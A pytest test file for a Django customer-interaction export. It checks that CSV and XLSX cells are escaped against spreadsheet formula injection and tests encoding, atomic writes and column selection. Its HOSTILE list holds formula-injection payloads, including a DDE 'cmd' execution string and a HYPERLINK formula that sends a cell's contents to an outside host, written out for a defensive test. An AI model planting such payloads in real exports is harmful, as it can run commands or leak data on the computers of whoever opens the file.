"""The spreadsheet: what it holds, and what it never does to whoever opens it."""

import csv
import io
from collections.abc import Iterator
from datetime import datetime, timedelta
from pathlib import Path
from zoneinfo import ZoneInfo

import pytest
from django.db import connection
from django.test.utils import CaptureQueriesContext
from hypothesis import given
from hypothesis import strategies as st
from openpyxl import load_workbook

from interactions.exports import COLUMNS, rows, safe_cell, save_csv, shop, write_csv, write_xlsx
from interactions.exports.cells import safe_cells
from interactions.exports.columns import chosen
from interactions.models import Interaction, Message
from tests.interactions.stored import NOW, interaction, run

SYDNEY = ZoneInfo("Australia/Sydney")
database = pytest.mark.django_db

# What makes a spreadsheet run a cell; source: OWASP, CSV injection.
HOSTILE = [
    "=1+1",
    '=HYPERLINK("http://example.com?"&A1,"x")',
    "+61 400 000 000",
    "-2+3",
    "@SUM(1+9)",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "  =1+1",
    "\u00a0=1+1",
    "＝1+1",
    "＋1",
    "－1",
    "＠x",
    "=cmd|' /C calc'!A0",
    '"=1+1',
]


def read(path: Path) -> list[list[str]]:
    return list(csv.reader(io.StringIO(path.read_bytes().decode("utf-8-sig"), newline="")))


@pytest.mark.parametrize("text", HOSTILE[:-1])
def test_no_cell_is_taken_for_a_formula(text: str) -> None:
    assert safe_cell(text, SYDNEY) == f"'{text}"
    assert str(safe_cell([text, "b"], SYDNEY)).startswith("'")


@given(st.text(max_size=30))
def test_a_cell_starts_with_no_formula_or_is_left_alone(text: str) -> None:
    cell = str(safe_cell(text, SYDNEY))
    assert cell in {text, f"'{text}"}
    assert not cell.lstrip().startswith(("=", "+", "-", "@", "＝", "＋", "－", "＠"))


@given(
    st.lists(
        st.none() | st.booleans() | st.integers() | st.floats(allow_nan=False) | st.text() | st.sampled_from(HOSTILE)
    )
)
def test_a_row_is_made_of_the_same_cells(values: list[object]) -> None:
    assert safe_cells(values, SYDNEY) == [safe_cell(value, SYDNEY) for value in values]


@pytest.mark.parametrize(
    ("value", "cell"),
    [
        (None, ""),
        (True, "yes"),
        (False, "no"),
        (-5, -5),
        (0, 0),
        (NOW, "2026-11-24 14:00:00+11:00"),
        (["a", "b"], "a, b"),
        ([], ""),
        ("Where is it - now?", "Where is it - now?"),
        ('say "hi", Mia', 'say "hi", Mia'),
    ],
)
def test_values_are_shown_as_they_are(value: object, cell: object) -> None:
    assert safe_cell(value, SYDNEY) == cell


@database
def test_a_file_opens_with_accents_right_and_survives_quotes_and_lines(tmp_path: Path) -> None:
    subject = 'Crème brûlée, "the best";\nsecond line 👩🏽‍🌾'
    interaction(subject=subject, customer_name="Zoë")
    path = tmp_path / "out.csv"
    assert save_csv(rows(Interaction.objects.all(), shop()), path) == 1
    assert path.read_bytes().startswith(b"\xef\xbb\xbfid,source,")
    header, row = read(path)
    assert header == list(COLUMNS)
    assert dict(zip(header, row, strict=True))["subject"] == subject
    assert path.read_bytes().count(b"\r\n") == 2
    assert list(tmp_path.iterdir()) == [path]


@database
def test_rows_are_oldest_first_and_every_one_is_there(tmp_path: Path) -> None:
    for number in (3, 1, 2):
        interaction(external_id=f"T{number}", started_at=NOW + timedelta(days=number), tags=["a"] * number)
    save_csv(rows(Interaction.objects.all(), shop()), tmp_path / "out.csv")
    place = COLUMNS.index("external_id")
    assert [row[place] for row in read(tmp_path / "out.csv")[1:]] == ["T1", "T2", "T3"]


@database
def test_hostile_texts_of_a_database_are_disarmed_in_every_column(tmp_path: Path) -> None:
    texts = [column for column in COLUMNS if column in {"subject", "customer_name", "rating_comment", "agent_name"}]
    for text in HOSTILE:
        interaction(tags=[text], order_ids=[text], **dict.fromkeys(texts, text))
    save_csv(rows(Interaction.objects.all(), shop()), tmp_path / "out.csv")
    written = read(tmp_path / "out.csv")[1:]
    assert len(written) == len(HOSTILE)
    assert not [cell for row in written for cell in row if cell.lstrip().startswith(("=", "+", "@", "＝", "＋", "＠"))]


@database
def test_a_failed_export_leaves_the_former_file_and_no_other(tmp_path: Path) -> None:
    path = tmp_path / "out.csv"
    path.write_text("former")

    class Broken(Exception):
        pass

    def broken() -> Iterator[list[str]]:
        yield ["id"]
        raise Broken

    with pytest.raises(Broken):
        save_csv(broken(), path)
    assert path.read_text() == "former"
    assert list(tmp_path.iterdir()) == [path]


@pytest.mark.parametrize("name", ["", ".", "/", "missing/out.csv"])
def test_a_place_that_is_no_file_is_refused_in_words(name: str, tmp_path: Path) -> None:
    with pytest.raises(OSError, match="folder"):
        save_csv([], tmp_path / name)


def test_the_header_is_not_counted() -> None:
    assert write_csv([["a"], ["1"], ["2"]], io.StringIO()) == 2


@database
def test_thousands_of_rows_are_read_in_pieces() -> None:
    run("INSERT INTO customer_interactions (source, started_at) SELECT 'email', now() FROM generate_series(1, 4500)")
    assert sum(1 for _ in rows(Interaction.objects.all(), shop())) == 4_501


@database
def test_worked_out_columns_count_messages_and_measure_times() -> None:
    friday = datetime(2026, 11, 20, 16, 30, tzinfo=SYDNEY)
    one = interaction(
        external_id="x", started_at=friday, resolved_at=friday + timedelta(days=3), response_time_seconds=65 * 3600
    )
    for who, minutes in (("customer", 0), ("customer", 5), ("bot", 6), ("agent", 65 * 60)):
        written(one, who, friday + timedelta(minutes=minutes))
    header, row = rows(Interaction.objects.all(), shop())
    values = dict(zip(header, row, strict=True))
    assert (values["messages_customer"], values["messages_agent"], values["messages_bot"]) == (2, 1, 1)
    assert values["resolution_seconds"] == 3 * 86_400
    # Half an hour on Friday and half an hour on Monday.
    assert values["response_business_hours"] == 1.0
    assert str(values["link"]).endswith(f"/admin/interactions/interaction/{one.pk}/change/")


def written(one: Interaction, who: str, at: datetime) -> None:
    Message.objects.create(
        interaction=one, source=one.source, message_id=f"{who} {at}", sender_type=who, content="x", sent_at=at
    )


@database
def test_chosen_columns_alone_are_read_and_written() -> None:
    interaction(external_id="x", subject="Late")
    with CaptureQueriesContext(connection) as captured:
        assert list(rows(Interaction.objects.all(), shop(), ["external_id", "subject"])) == [
            ["external_id", "subject"],
            ["x", "Late"],
        ]
    assert "transcript" not in captured[0]["sql"]
    assert not [query for query in captured if "interaction_messages" in query["sql"]]


def test_unknown_columns_do_not_count_and_none_means_all() -> None:
    assert chosen(["subject", "password", "id"]) == ("id", "subject")
    assert chosen([]) == COLUMNS


def test_a_workbook_opens_with_every_text_as_text() -> None:
    file = io.BytesIO()
    count = write_xlsx([["subject", "n"], [safe_cell("=1+1", SYDNEY), 5], ["bell \x07, ü", 0], ["x" * 40_000, 1]], file)
    sheet = load_workbook(file).active
    assert sheet is not None
    cells = [[cell.value for cell in row] for row in sheet.iter_rows()]
    assert count == 3
    assert cells[1] == ["'=1+1", 5]
    assert cells[2] == ["bell \ufffd, ü", 0]
    assert len(str(cells[3][0])) == 32_767
    assert {cell.data_type for cell in sheet["A"]} == {"s"}
